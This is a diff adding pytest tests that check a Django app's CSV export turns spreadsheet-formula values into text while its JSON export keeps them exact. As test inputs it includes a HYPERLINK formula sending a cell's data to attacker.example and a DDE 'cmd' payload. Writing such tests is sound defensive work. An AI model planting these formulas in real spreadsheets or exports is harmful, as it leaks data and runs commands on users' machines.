@@ -1,11 +1,24 @@
-"""Cells and columns: each value escaped, each cell labelled with its column, and
-the counts of sources in the right number."""
+"""Cells and columns: each value escaped, each cell labelled with its column, the
+counts of sources in the right number, and exports a spreadsheet cannot run."""
 
+import csv
+import io
+import json
 from types import SimpleNamespace
 
 import pytest
 
-from knowledge.tables.cells import Cell, Column, Link, body_html, source_counts
+from knowledge.tables.cells import (
+    Cell,
+    Column,
+    Link,
+    body_html,
+    source_counts,
+    to_csv,
+    to_json,
+)
+from tests.factories import ArticleFactory, CauseFactory, state
+from tests.knowledge.tables.pages import CAUSES, csv_rows
 
 
 def test_cells_escape_what_they_show():
@@ -56,3 +69,51 @@ def test_source_counts_agree_with_their_number(counts, expected):
         disputing_documents=counts[2],
     )
     assert source_counts(counted).export() == expected
+
+
+HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&C2,"x")'
+
+
+@pytest.mark.parametrize(
+    "value",
+    [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "-"],
+)
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_made_text(value):
+    columns = [Column("name", value, lambda obj: Cell())]
+    header, row = csv_rows_of(to_csv([[Cell(value)]], columns))
+    assert header == row == [f"'{value}"]
+
+
+def test_csv_cells_keep_every_other_value_as_it_is():
+    values = ["Stress", "400 mg", "'quoted'", 'say "x", then =1', " =1", "2 support"]
+    columns = [
+        Column(str(i), value, lambda obj: Cell()) for i, value in enumerate(values)
+    ]
+    assert csv_rows_of(to_csv([[Cell(value) for value in values]], columns)) == [
+        values,
+        values,
+    ]
+
+
+def test_json_export_keeps_a_formula_like_value_exact():
+    columns = [Column("name", "Cause", lambda obj: Cell())]
+    assert json.loads(to_json([[Cell(HYPERLINK)]], columns)) == [{"Cause": HYPERLINK}]
+
+
+@pytest.mark.django_db
+def test_a_cause_named_as_a_formula_reaches_the_csv_as_text_and_the_json_exact(
+    client,
+):
+    cause = CauseFactory(name=HYPERLINK)
+    state(cause, "urgency", "-1 (none)", article=ArticleFactory())
+    header, row = csv_rows(client.get(CAUSES, {"format": "csv"}))
+    csv_cause = dict(zip(header, row, strict=True))
+    assert csv_cause["Cause"] == f"'{HYPERLINK}"
+    assert csv_cause["Urgency"] == "'-1 (none)"
+    (json_cause,) = json.loads(client.get(CAUSES, {"format": "json"}).content)
+    assert json_cause["Cause"] == HYPERLINK
+    assert json_cause["Urgency"] == "-1 (none)"
+
+
+def csv_rows_of(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
